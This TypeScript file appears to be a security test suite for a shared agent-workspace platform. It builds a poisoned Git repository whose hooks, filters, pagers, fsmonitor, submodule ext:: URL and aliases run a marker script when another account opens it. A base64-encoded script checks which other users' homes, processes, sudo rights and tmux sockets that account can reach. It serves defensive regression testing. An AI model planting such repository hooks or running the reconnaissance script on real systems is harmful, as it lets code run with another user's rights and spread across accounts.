import type { Attack, Lab } from './attack.ts';
import { one, two } from './attack.ts';

const note = (vector: string): string => `echo "${vector} $(id -u)" >>/tmp/git-ran`;

/** Everything in a repository's configuration and attributes that names a program, each noting that it ran, and as whom. */
export const prepare = (
  path: string,
): string => `cd ${path} && rm -rf .git f sub .gitattributes .gitmodules && git init -q . && git config user.name e && git config user.email e@e.invalid
printf '#!/bin/sh\\n%s\\n' '${note('program')}; cat; exit 0' >/tmp/ran.sh; chmod 755 /tmp/ran.sh
echo 1 >f; git add f; git commit -qm first
git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub; mkdir -p sub
printf '[submodule "sub"]\\n\\tpath = sub\\n\\turl = ext::/tmp/ran.sh\\n\\tupdate = !/tmp/ran.sh\\n\\tignore = none\\n' >.gitmodules
git -C sub init -q . ; git -C sub config core.fsmonitor '${note('submodule')}; false'
for k in core.fsmonitor core.pager core.sshCommand core.editor core.askPass core.gitProxy diff.external gpg.program gpg.ssh.program credential.helper sequence.editor pager.status pager.log pager.diff interactive.diffFilter uploadpack.packObjectsHook core.alternateRefsCommand trailer.x.command mergetool.x.cmd; do git config $k /tmp/ran.sh; done
git config core.fsmonitor '${note('fsmonitor')}; false'
git config core.pager '${note('pager')}; cat'
git config diff.external '${note('external')}; true'
git config diff.d.textconv '${note('textconv')}; cat'
git config diff.d.command '${note('diffcommand')}; true'
git config filter.x.clean '${note('clean')}; cat'
git config filter.x.smudge '${note('smudge')}; cat'
git config filter.y.process '${note('process')}; false'
git config merge.m.driver '${note('merge')}; true'
git config alias.status '!${note('alias')}'
git config log.showSignature true
git config include.path ../included.config
printf '[core]\\n\\tfsmonitor = /tmp/ran.sh\\n[filter "z"]\\n\\tclean = /tmp/ran.sh\\n' >included.config
git config extensions.worktreeConfig true; printf '[filter "w"]\\n\\tclean = /tmp/ran.sh\\n' >.git/config.worktree
mkdir -p hooks; for h in post-index-change pre-commit post-checkout reference-transaction fsmonitor-watchman post-rewrite pre-auto-gc; do cp /tmp/ran.sh hooks/$h; cp /tmp/ran.sh .git/hooks/$h; done
git config core.hooksPath hooks
echo /srv/elsewhere >.git/objects/info/alternates
i=0; for t in x y z w; do i=$((i+1)); echo $i >g$t; echo "g$t filter=$t diff=d merge=m" >>.gitattributes; done; echo 'f filter=x diff=d' >>.gitattributes
GIT_CONFIG_COUNT=0 git -c core.fsmonitor= -c core.hooksPath=/dev/null add -A . 2>/dev/null; echo 2 >f; for t in x y z w; do echo 2 >g$t; done
git config core.sharedRepository group; chmod -R g+rwX . ; true`;

/** A new list of what ran, which everybody can write. */
const begin = ({ eve }: Lab) => eve('rm -f /tmp/git-ran; : >/tmp/git-ran; chmod 666 /tmp/git-ran');
/** What ran as anybody but eve herself. */
const ranAsOthers = async ({ root }: Lab): Promise<string> =>
  root('grep -v " $(id -u agt--eve)$" /tmp/git-ran | sort -u || true');

/** What code of a hostile repository does with the rights of whoever opened it. */
const reach = `for p in ${two} /home/agt--bob /home/agentworks /root /home/op--two; do ls -A $p >/dev/null 2>&1 && echo "listed $p"; [ -w $p ] && echo "writable $p"; done
cat ${two}/notes 2>/dev/null
sudo -n true 2>/dev/null && echo sudo
for p in /proc/[0-9]*; do [ "$(stat -c %u $p 2>/dev/null)" = "$(id -u)" ] || { kill -0 \${p#/proc/} 2>/dev/null && echo "may signal $p"; cat $p/environ >/dev/null 2>&1 && echo "environment of $p"; }; done
for s in /run/agentworks/agent-tmux-sockets/*/*.sock; do [ -S "$s" ] && echo "sees $s"; done
id -nG | tr ' ' '\\n' | grep -E '^(sudo|adm|docker|ws--two)$'; true`;

export const gitAttacks: readonly Attack[] = [
  {
    name: 'has its repository’s filters, hooks, monitors and pagers run by whoever looks at it',
    answers:
      'workspaces 5.2 and agents 11: safe.directory = * for the admin, who runs Git in agent-writable repositories',
    way: 'the admin, member of every workspace group, runs git status, diff and log there, or VS Code does for him',
    async reference(lab) {
      await lab.eve(prepare(one));
      await begin(lab);
      await lab.root('gpasswd -a agentworks ws--one >/dev/null');
      for (const verb of ['status', 'diff', 'log -p', 'commit -qam x', 'fetch'])
        await lab.as('agentworks', `cd ${one} && timeout 10 git -c safe.directory='*' ${verb} </dev/null`);
      await lab.root('gpasswd -d agentworks ws--one >/dev/null');
      return ranAsOthers(lab);
    },
    async ours(lab) {
      await lab.eve(prepare(one));
      await begin(lab);
      const { world } = lab;
      await world.run('workspace.describe', { name: 'one' });
      await world.run('vm.describe', { name: 'box' });
      await world.run('workspace.delete', { name: 'one', dryRun: true, force: true });
      await world.run('workspace.delete', { name: 'one' }).catch(() => undefined);
      await world.run('session.list', {});
      await world.run('agent.delete', { name: 'eve', dryRun: true });
      // With a salvage, which reads all of it.
      await world.run('workspace.create', { name: 'trap', vm: 'box' });
      await world.run('agent.workspace-grants.grant', { name: 'eve', workspaces: 'trap' });
      await lab.eve(prepare(one.replace(/one$/, 'trap')));
      await world.run('workspace.delete', { name: 'trap', yes: true, force: true });
      return ranAsOthers(lab);
    },
  },
  {
    name: 'reaches the next workspace through the account that opens its own',
    answers: 'workspaces 5.2, agents 11: whoever opens a repository runs what is in it',
    way: 'Remote-SSH as the admin: every workspace group, passwordless sudo',
    async reference({ root, as }) {
      await root('gpasswd -a agentworks ws--two >/dev/null');
      const got = await as('agentworks', reach);
      await root('gpasswd -d agentworks ws--two >/dev/null');
      return got;
    },
    // The operator's own login to that account, as Remote-SSH makes it, and what it starts there.
    ours: async ({ world, as }) => {
      await as('agt--bob', '(setsid sleep 60 >/dev/null 2>&1 </dev/null &)');
      const script = Buffer.from(reach).toString('base64');
      const { code, stdout } = await world.login(
        'op--one',
        `echo ${script} | base64 -d | bash; touch ${one}/opened && rm ${one}/opened`,
      );
      if (code !== 0) throw new Error('The login itself failed, so nothing was shown.');
      return stdout;
    },
  },
];
